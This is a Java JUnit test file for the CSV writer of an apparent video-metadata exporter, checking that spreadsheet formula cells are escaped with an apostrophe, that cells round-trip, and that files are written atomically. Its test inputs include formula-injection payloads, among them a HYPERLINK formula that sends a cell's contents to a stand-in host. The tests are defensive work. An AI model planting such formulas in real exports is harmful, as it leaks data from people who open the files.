package com.example.brightcove.videoexporter.store;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.example.brightcove.videoexporter.ExporterRun;
import com.example.brightcove.videoexporter.disk.AtomicMove;
import com.example.brightcove.videoexporter.disk.AtomicTextFile;
import com.example.brightcove.videoexporter.store.CsvFormat.Formulas;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cells are read again as they were written, except for escaped formulas. */
class CsvFormatTest {

  private static final CsvFormat USUAL = new CsvFormat(false, Formulas.ESCAPE);

  @TempDir Path directory;

  private Path write(CsvFormat csv, List<String> header, List<List<String>> rows) throws Exception {
    Path table = directory.resolve("table.csv");
    AtomicTextFile files = new AtomicTextFile(new AtomicMove(pause -> {}));
    csv.write(files, directory.resolve("part"), table, header, rows.stream());
    return table;
  }

  private static List<List<String>> read(Path table) throws IOException {
    try (CsvReader<CsvRecord> csv =
        CsvReader.builder().skipEmptyLines(false).detectBomHeader(true).ofCsvRecord(table)) {
      return csv.stream().map(CsvRecord::getFields).toList();
    }
  }

  /** A row in which every column of both CSV files has this cell. */
  private List<List<String>> everywhere(CsvFormat csv, String cell) throws Exception {
    List<String> header =
        Stream.concat(ExportedVideo.COLUMNS.stream(), ExportedVideo.FAILURE_COLUMNS.stream())
            .toList();
    return read(write(csv, header, List.of(Collections.nCopies(header.size(), cell))));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "=",
        "=HYPERLINK(\"http://h/?\"&A1,\"x\")",
        "-\u00dcbung \ud83d\ude00"
      })
  void onlyTextWrittenByPeopleIsEscapedWithAnApostrophe(String cell) throws Exception {
    List<List<String>> table = everywhere(USUAL, cell);
    List<String> text =
        List.of("Name", "OriginalFileName", "Tags", "Folder", "ReferenceId", "Reason");
    int defused = 0;
    for (int i = 0; i < table.get(0).size(); i++) {
      boolean isText = text.contains(table.get(0).get(i));
      assertEquals(isText ? "'" + cell : cell, table.get(1).get(i), table.get(0).get(i));
      defused += isText ? 1 : 0;
    }
    assertEquals(7, defused); // Name is in both CSV files
    assertTrue(
        everywhere(new CsvFormat(false, Formulas.RAW), cell).get(1).stream()
            .allMatch(cell::equals));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "a=1", "1+1", " =1", "'=1", "\"=1", "\u2212 1", "(=1", "a\n=1", "a,=1"})
  void anyOtherTextIsKept(String cell) throws Exception {
    assertTrue(everywhere(USUAL, cell).get(1).stream().allMatch(cell::equals));
  }

  @Test
  void aFormulaBehindAPossibleSeparatorIsQuoted() throws Exception {
    Path table = write(USUAL, List.of("Name", "Tags"), List.of(List.of("a;=1+1", "a; b")));
    assertEquals("Name,Tags\r\n\"a;=1+1\",a; b\r\n", Files.readString(table));
  }

  @Test
  void cellsAreReadAgainAsTheyWereWritten() throws Exception {
    Random random = new Random(1);
    int[] characters =
        "a\u00fc\u51b7\ud83d\ude00,;\"'\r\n\t =#\ufeff\u0000\u2028".codePoints().toArray();
    List<List<String>> rows = new ArrayList<>(List.of(List.of("Name", "Tags", "x")));
    for (int i = 0; i < 3_000; i++) {
      List<String> row = new ArrayList<>();
      for (int column = 0; column < 3; column++) {
        StringBuilder cell = new StringBuilder();
        for (int length = random.nextInt(6); length > 0; length--) {
          cell.appendCodePoint(characters[random.nextInt(characters.length)]);
        }
        row.add(cell.toString());
      }
      rows.add(row);
    }
    for (boolean mark : new boolean[] {false, true}) {
      CsvFormat csv = new CsvFormat(mark, Formulas.RAW);
      assertEquals(rows, read(write(csv, rows.get(0), rows.subList(1, rows.size()))));
    }
    List<List<String>> defused = read(write(USUAL, rows.get(0), rows.subList(1, rows.size())));
    assertNotEquals(rows, defused);
    assertEquals(withoutApostrophes(rows), withoutApostrophes(defused));
  }

  private static List<List<String>> withoutApostrophes(List<List<String>> rows) {
    return rows.stream()
        .map(
            row ->
                row.stream()
                    .map(cell -> cell.replaceFirst("^'(?=[\\p{Cc}\\p{Cf}]*=|[\t\r\n])", ""))
                    .toList())
        .toList();
  }

  @Test
  void theBytesFollowRfc4180WithTheByteOrderMarkOnlyIfConfigured() throws Exception {
    List<List<String>> rows = List.of(List.of("1", "=\u00fc, \"x\""), List.of("-2", ""));
    List<String> header = List.of("Id", "Name");
    assertEquals(
        "Id,Name\r\n1,\"'=\u00fc, \"\"x\"\"\"\r\n-2,\r\n",
        Files.readString(write(USUAL, header, rows)));
    assertArrayEquals(
        "\ufeffId,Name\r\n1,\"=\u00fc, \"\"x\"\"\"\r\n-2,\r\n".getBytes(UTF_8),
        Files.readAllBytes(write(new CsvFormat(true, Formulas.RAW), header, rows)));
  }

  @Test
  void anInterruptIsNotADiskErrorAndLeavesTheCsvFileUnchanged() throws Exception {
    List<String> header = List.of("Name");
    byte[] before = Files.readAllBytes(write(USUAL, header, List.of(List.of("old"))));
    Thread.currentThread().interrupt();
    assertThrows(
        InterruptedException.class,
        () -> write(USUAL, header, Collections.nCopies(20_000, List.of("new"))));
    assertFalse(Thread.interrupted());
    assertArrayEquals(before, Files.readAllBytes(directory.resolve("table.csv")));
  }

  @Test
  void aCsvFileThatWouldNotChangeIsNotRewritten() throws Exception {
    List<String> header = List.of("Id", "Name");
    Path table = write(USUAL, header, List.of(List.of("1", "one")));
    FileTime longAgo = FileTime.fromMillis(0);
    Files.setLastModifiedTime(table, longAgo);
    write(USUAL, header, List.of(List.of("1", "one")));
    assertEquals(longAgo, Files.getLastModifiedTime(table));
    assertEquals(List.of(table), ExporterRun.files(directory));
    write(USUAL, header, List.of(List.of("1", "two")));
    assertEquals("Id,Name\r\n1,two\r\n", Files.readString(table));
    assertEquals(List.of(table), ExporterRun.files(directory));
  }
}
